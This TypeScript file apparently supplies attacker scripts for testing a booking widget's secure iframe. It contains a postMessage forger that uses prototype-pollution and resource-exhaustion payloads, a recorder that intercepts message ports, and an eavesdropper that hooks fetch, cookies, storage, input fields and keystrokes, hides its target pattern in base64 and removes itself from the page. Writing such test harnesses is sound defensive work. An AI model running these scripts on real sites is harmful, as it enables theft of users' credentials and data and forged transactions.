// Scripts of attackers, as text: they run in pages of other sites, or in a partner's page before anything of ours.

/**
 * Runs in a frame beside the secure one. Told to attack, it posts forged messages to every window it can reach and says how many. It
 * is told what true messages look like, the secure frame's nonce included, which no page but the partner's own could tell it.
 */
export const forger = `<!doctype html><title>attacker</title><script>
const windows = (from) => [from, ...Array.from({ length: from.length }, (_, i) => windows(from[i])).flat()];
const hex = () => [...crypto.getRandomValues(new Uint8Array(16))].map((b) => b.toString(16).padStart(2, '0')).join('');
const deep = (n) => { let at = {}; const top = at; for (let i = 0; i < n; i++) at = at.child = {}; return top; };
const cycle = { type: 'ready' }; cycle.self = cycle;
const polluted = (more) => JSON.parse('{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}' + more + '}');
const once = {
  big: 'x'.repeat(1_000_000), deep: deep(2_000), wide: Object.fromEntries(Array.from({ length: 20_000 }, (_, i) => ['k' + i, i])),
};
const forge = (i, { truths, protocol }) => {
  const kinds = [
    () => ({ travel: protocol, type: 'hello', nonce: hex() }),
    () => ({ travel: protocol, type: 'welcome', nonce: hex() }),
    () => ({ travel: protocol, type: 'hello', nonce: '' }),
    () => ({ travel: protocol, type: 'hello', nonce: { toString: null } }),
    () => ({ travel: protocol, type: 'welcome', nonce: ['x'] }),
    () => ({ type: 'height', height: 40_000 }),
    () => ({ type: 'reveal', top: 0, bottom: 40_000 }),
    () => ({ type: 'booked', reference: 'HP-FORGED', amount: 1, currency: 'USD' }),
    () => ({ type: 'closed', path: '/booknow/hotels' }),
    () => ({ type: 'browse', token: 'forged', expiresAt: '2099-01-01T00:00:00.000Z' }),
    () => ({ type: 'signed', in: true }),
    () => ({ type: 'error', code: 'FORGED' }),
    () => ({ type: 'open', service: 'hotels', quoteId: 'q_forged', offerId: null, reference: null, hint: null, profile: null }),
    () => ({ type: 'token', token: 'tok_forged' }),
    () => ({ type: 'resize', height: 3_000 }),
    () => ({ type: 'tokenise' }),
    () => polluted(',"type":"ready"'),
    () => polluted(',"travel":"' + protocol + '","type":"hello"'),
    () => cycle, () => null, () => undefined, () => i, () => 10n, () => true, () => 'ready', () => [], () => new Map([[{}, 1]]),
    () => new Date(NaN), () => new Error('forged'), () => new Uint8Array(64), () => JSON.stringify({ type: 'ready' }),
    ...truths.map((truth) => () => truth),
  ];
  return kinds[i % kinds.length]();
};
addEventListener('message', async ({ data }) => {
  if (!data?.attack) return;
  const targets = windows(top).filter((one) => one !== window);
  let sent = 0, frames = 0;
  const post = (target, message) => {
    // A port with it, as the true greeting has.
    target.postMessage(message, '*', sent % 8 ? [] : [new MessageChannel().port2]);
    sent++;
  };
  if (data.attack > 500) for (const message of Object.values(once)) for (const target of targets) target.postMessage(message, '*');
  while (sent < data.attack) {
    for (const target of targets) post(target, forge(Math.floor(sent / targets.length), data));
    if (sent % 500 < targets.length) await new Promise((go) => setTimeout(go));
  }
  top.postMessage({ attacked: sent, windows: targets.length }, '*');
});
</script>`;

/**
 * Runs in the partner's own page, before everything else: records what windows and ports say, so that it can be said again by others,
 * and what events the widget lets out. `replay` keeps everything that went over the channel.
 */
export const recorder = `<script>
window.heard = { greetings: [], said: [], events: [], ports: [], origins: [] };
const post = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function (message, ...rest) {
  heard.said.push(message);
  return post.call(this, message, ...rest);
};
const TrueChannel = MessageChannel;
window.MessageChannel = class extends TrueChannel {
  constructor() {
    super();
    heard.ports.push(this.port1);
    this.port1.addEventListener('message', ({ data }) => heard.said.push(data));
  }
};
addEventListener('message', ({ data, origin }) => {
  if (!data?.travel) return;
  heard.greetings.push(data);
  heard.origins.push(origin);
});
for (const name of ['ready', 'search', 'select', 'navigate', 'checkout', 'booked', 'error', 'track'])
  addEventListener('travel-' + name, ({ detail }) => heard.events.push({ name, detail: JSON.parse(JSON.stringify(detail ?? null)) }));
</script>`;

/**
 * Runs in the partner's own page, before everything else: listens in on whatever a script can replace, and keeps every text that
 * matches `wanted`. Nothing is changed in what the page's code gets.
 * @param wanted source of a regular expression, in Latin letters; it stands in the script in base64, so that the script is no find itself
 */
export const eavesdropper = (wanted: string) => `<script>
(() => {
  const apply = Reflect.apply, construct = Reflect.construct, test = RegExp.prototype.test, own = Object.getOwnPropertyDescriptor;
  const define = Object.defineProperty, keysOf = Reflect.ownKeys, TrueSet = WeakSet, wanted = new RegExp(atob('${Buffer.from(wanted, 'latin1').toString('base64')}'));
  const has = TrueSet.prototype.has, add = TrueSet.prototype.add, decoder = new TextDecoder(), decode = decoder.decode;
  const spied = (window.spied = { calls: {}, texts: [] });
  let busy = false;
  const look = (value, where, depth, seen) => {
    if (typeof value === 'string') {
      if (spied.texts.length < 2_000 && apply(test, wanted, [value])) spied.texts[spied.texts.length] = where + ': ' + value;
    } else if (value instanceof ArrayBuffer || ArrayBuffer.isView(value)) {
      if (value.byteLength < 1e6) look(apply(decode, decoder, [value]), where, 0, seen);
    } else if (typeof value === 'object' && value !== null && depth > 0 && !(value instanceof Node) && value !== window && !apply(has, seen, [value])) {
      apply(add, seen, [value]);
      let keys = [];
      try { keys = keysOf(value); } catch {}
      for (let i = 0; i < keys.length && i < 30; i++) {
        let found;
        try { const property = own(value, keys[i]); found = property && 'value' in property ? property.value : undefined; } catch {}
        look(found, where, depth - 1, seen);
      }
    }
  };
  // Calls of the small helpers come by the hundred thousand: their own texts are read, and no deeper.
  const shallow = /^(Array|String|RegExp|Function|Map|WeakMap|Object|Promise|Node|Element|textContent|data)\\b/;
  const note = (where, ...values) => {
    if (busy) return;
    busy = true;
    try {
      spied.calls[where] = (spied.calls[where] ?? 0) + 1;
      const depth = apply(test, shallow, [where]) ? 2 : 4;
      for (let i = 0; i < values.length; i++) look(values[i], where, depth, new TrueSet());
    } finally { busy = false; }
  };
  const hookFunction = (owner, name, label) => {
    const original = owner?.[name];
    if (typeof original !== 'function') return;
    const hook = function (...given) {
      const result = new.target ? construct(original, given, new.target === hook ? original : new.target) : apply(original, this, given);
      note(label, typeof this === 'string' ? this : undefined, given, result);
      return result;
    };
    hook.prototype = original.prototype;
    for (const key of keysOf(original)) if (!['prototype', 'length', 'name'].includes(key)) { try { define(hook, key, own(original, key)); } catch {} }
    try { define(owner, name, { ...own(owner, name), value: hook }); } catch {}
  };
  const hookAccessor = (owner, name, label) => {
    const property = owner && own(owner, name);
    if (!property?.configurable) return;
    const { get, set } = property;
    define(owner, name, {
      ...property,
      ...(get ? { get() { const value = apply(get, this, []); note(label, value); return value; } } : {}),
      ...(set ? { set(value) { note(label, value); apply(set, this, [value]); } } : {}),
    });
  };
  const methods = (owner, label, names) => { for (const name of names.split(' ')) hookFunction(owner, name, label + '.' + name); };
  methods(window, 'window', 'fetch XMLHttpRequest WebSocket EventSource postMessage open MessageChannel BroadcastChannel URL Request Headers FormData Blob setTimeout queueMicrotask structuredClone atob btoa');
  methods(XMLHttpRequest.prototype, 'XMLHttpRequest', 'open send setRequestHeader');
  hookAccessor(XMLHttpRequest.prototype, 'responseText', 'XMLHttpRequest.responseText');
  methods(Navigator.prototype, 'navigator', 'sendBeacon');
  methods(Response.prototype, 'Response', 'json text arrayBuffer');
  methods(Headers.prototype, 'Headers', 'set append get');
  methods(TextDecoder.prototype, 'TextDecoder', 'decode');
  methods(Storage.prototype, 'Storage', 'setItem getItem');
  methods(IDBFactory.prototype, 'indexedDB', 'open');
  hookAccessor(Document.prototype, 'cookie', 'document.cookie');
  methods(MessagePort.prototype, 'MessagePort', 'postMessage start');
  hookAccessor(MessagePort.prototype, 'onmessage', 'MessagePort.onmessage');
  hookAccessor(MessageEvent.prototype, 'data', 'MessageEvent.data');
  hookAccessor(CustomEvent.prototype, 'detail', 'CustomEvent.detail');
  methods(EventTarget.prototype, 'EventTarget', 'addEventListener dispatchEvent');
  methods(JSON, 'JSON', 'parse stringify');
  methods(Array.prototype, 'Array', 'push pop shift unshift splice slice map filter find forEach some every reduce join concat includes indexOf flat flatMap sort');
  methods(Object, 'Object', 'assign keys values entries fromEntries defineProperty create freeze hasOwn');
  methods(Object.prototype, 'Object.prototype', 'toString hasOwnProperty');
  methods(Promise.prototype, 'Promise', 'then catch finally');
  methods(Promise, 'Promise', 'resolve all race');
  methods(String.prototype, 'String', 'replace replaceAll split slice trim includes startsWith endsWith match concat toLowerCase toUpperCase padStart');
  methods(RegExp.prototype, 'RegExp', 'exec test');
  methods(Function.prototype, 'Function', 'call apply bind');
  methods(Map.prototype, 'Map', 'set get');
  methods(WeakMap.prototype, 'WeakMap', 'set get');
  methods(customElements, 'customElements', 'define get');
  methods(Element.prototype, 'Element', 'attachShadow setAttribute append appendChild insertAdjacentHTML');
  methods(Node.prototype, 'Node', 'appendChild insertBefore');
  methods(History.prototype, 'history', 'pushState replaceState');
  for (const [owner, name] of [[Element.prototype, 'innerHTML'], [Node.prototype, 'textContent'], [HTMLInputElement.prototype, 'value'], [CharacterData.prototype, 'data'], [HTMLIFrameElement.prototype, 'src']])
    hookAccessor(owner, name, name);
  for (const type of ['keydown', 'keyup', 'input', 'change', 'paste', 'beforeinput', 'submit', 'focusin', 'message'])
    addEventListener(type, (event) => note('event ' + type, event.key, event.data, event.target?.value, event.detail), true);
  document.currentScript.remove();
})();
</script>`;
